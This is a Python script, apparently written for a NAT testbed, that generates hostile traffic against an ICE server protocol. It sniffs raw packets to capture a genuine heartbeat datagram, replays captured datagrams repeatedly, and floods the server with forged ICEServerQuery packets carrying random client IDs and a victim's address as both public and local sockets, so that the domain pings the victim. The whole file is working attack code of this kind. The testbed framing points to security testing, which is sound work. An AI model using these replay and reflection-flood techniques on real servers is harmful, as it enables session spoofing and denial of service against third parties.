#!/usr/bin/env python3
"""Hostile traffic for the NAT testbed (stdlib only; run inside a namespace).

  capture  sniff one datagram of an ICE packet type arriving at a UDP port (AF_PACKET,
           like tcpdump) and write its UDP payload to a file: how the attacker gets a
           real heartbeat of the real domain.
  replay   send a captured datagram again and again from our own address; count what
           comes back, by packet type.
  flood    ICEServerQuery (protocol document section 2.5 layout) with a fresh client ID
           each, whose self-reported public and local sockets both point at a victim:
           an attempt to make the domain ping the victim.
"""
import argparse
import os
import select
import socket
import struct
import sys
import time
import uuid

ETH_P_IP = 0x0800
TYPE_NAMES = {22: "ICEServerPeerInformation", 23: "ICEServerQuery", 38: "ICEServerHeartbeat",
              39: "ICEPing", 40: "ICEPingReply", 60: "ICEServerHeartbeatDenied", 63: "ICEServerHeartbeatACK"}


def endpoint(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def nl_type(payload):
    """Packet type of an unobfuscated, unreliable NLPacket: the byte after the 4-byte UDT word."""
    return payload[4] if len(payload) > 5 else None


def cmd_capture(args):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sock.bind((args.iface, ETH_P_IP))
    deadline = time.monotonic() + args.timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([sock], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            break
        packet = sock.recv(65535)
        if len(packet) < 20 or packet[0] >> 4 != 4 or packet[9] != 17:
            continue
        ihl = (packet[0] & 0x0F) * 4
        src = socket.inet_ntoa(packet[12:16])
        sport, dport, length = struct.unpack("!HHH", packet[ihl:ihl + 6])
        payload = packet[ihl + 8:ihl + length]
        if dport != args.port or nl_type(payload) != args.type:
            continue
        with open(args.out, "wb") as f:
            f.write(payload)
        print(f"captured {TYPE_NAMES.get(args.type, args.type)} from {src}:{sport}, {len(payload)} bytes")
        return 0
    print("capture: nothing matching arrived", file=sys.stderr)
    return 1


def count_replies(sock, until, counts):
    while True:
        left = until - time.monotonic()
        if left <= 0:
            return
        ready, _, _ = select.select([sock], [], [], left)
        if not ready:
            return
        data, _ = sock.recvfrom(65535)
        name = TYPE_NAMES.get(nl_type(data), f"type {nl_type(data)}")
        counts[name] = counts.get(name, 0) + 1


def cmd_replay(args):
    data = open(args.file, "rb").read()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(endpoint(args.bind))
    counts = {}
    for _ in range(args.count):
        sock.sendto(data, endpoint(args.to))
        count_replies(sock, time.monotonic() + 1.0 / args.rate, counts)
    count_replies(sock, time.monotonic() + 0.5, counts)
    got = ", ".join(f"{k} {v}" for k, v in sorted(counts.items())) or "nothing"
    print(f"replayed {args.count} x {len(data)} bytes to {args.to} from {args.bind}; got back: {got}")
    return 0


def sockaddr_v4(host, port):
    # SockAddr on the wire (section 2.4): type byte 0 = IPv4, 4 address bytes, port big-endian
    return b"\x00" + socket.inet_aton(host) + struct.pack("!H", port)


def ice_server_query(client_id, public, local, domain_id):
    udt = struct.pack("<I", 1)              # unreliable, sequence 1, no message bits
    header = bytes([23, 17])                # ICEServerQuery, version 17
    return udt + header + client_id.bytes + sockaddr_v4(*public) + sockaddr_v4(*local) + domain_id.bytes


def cmd_flood(args):
    domain_id = uuid.UUID(args.domain_id)
    victim = endpoint(args.victim)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(endpoint(args.bind))
    counts = {}
    start = time.monotonic()
    for i in range(args.count):
        sock.sendto(ice_server_query(uuid.UUID(bytes=os.urandom(16), version=4), victim, victim, domain_id),
                    endpoint(args.to))
        count_replies(sock, start + (i + 1) / args.rate, counts)
    count_replies(sock, time.monotonic() + 0.3, counts)
    got = ", ".join(f"{k} {v}" for k, v in sorted(counts.items())) or "nothing"
    print(f"flooded {args.count} ICEServerQuery ({args.rate}/s, fresh client IDs, public and local "
          f"{args.victim}) to {args.to} in {time.monotonic() - start:.1f} s; got back: {got}")
    return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("capture")
    p.add_argument("--iface", default="eth0")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--type", type=int, default=38)
    p.add_argument("--out", required=True)
    p.add_argument("--timeout", type=float, default=5.0)
    p = sub.add_parser("replay")
    p.add_argument("--file", required=True)
    p.add_argument("--to", required=True)
    p.add_argument("--bind", required=True)
    p.add_argument("--count", type=int, default=50)
    p.add_argument("--rate", type=float, default=20.0)
    p = sub.add_parser("flood")
    p.add_argument("--to", required=True)
    p.add_argument("--bind", required=True)
    p.add_argument("--domain-id", required=True)
    p.add_argument("--victim", required=True)
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--rate", type=float, default=100.0)
    args = parser.parse_args()
    return {"capture": cmd_capture, "replay": cmd_replay, "flood": cmd_flood}[args.cmd](args)


if __name__ == "__main__":
    sys.exit(main())
